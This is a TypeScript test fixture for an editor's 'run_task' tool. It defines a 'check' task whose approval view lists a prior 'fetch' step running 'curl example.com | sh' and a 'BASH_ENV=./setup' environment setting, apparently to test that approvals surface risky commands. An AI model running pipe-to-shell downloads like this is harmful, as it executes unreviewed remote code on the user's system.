// The tool `run_task` in an editor with one task, `check`, whose approval shows its command and a task before it.
import { Emitter } from '../../../src/base/emitter.ts';
import { failed, succeeded } from '../../../src/base/errors.ts';
import { type InspectedTask, type TaskEnd } from '../../../src/core/ports/tasks.ts';
import { type Tool } from '../../../src/core/ports/ports.ts';
import { realClock } from '../../../src/node/realClock.ts';
import { createRunTaskTool } from '../../../src/tools/commands/runTask.ts';

export const checkView: InspectedTask['view'] = {
  name: 'check',
  command: 'make check',
  facts: [{ fact: 'environment', text: 'BASH_ENV=./setup' }],
  before: [
    { name: 'fetch', command: 'curl example.com | sh', facts: [], before: [] },
    { name: 'other', folder: 'kitchen', unknown: true, facts: [], before: [{ name: 'all', facts: [], before: [] }] },
  ],
};

/** The task cannot be started. */
export function oneTaskTool(): Tool {
  const ended = new Emitter<TaskEnd>(() => undefined);
  return createRunTaskTool({
    clock: realClock,
    tasks: {
      list: async () => succeeded([{ name: checkView.name, background: false }]),
      inspect: async () => succeeded({ view: checkView, fingerprint: 'one', isKnown: true }),
      run: async () => failed('refused', 'It is not started in a test.'),
      onDidEnd: ended.event,
    },
  });
}
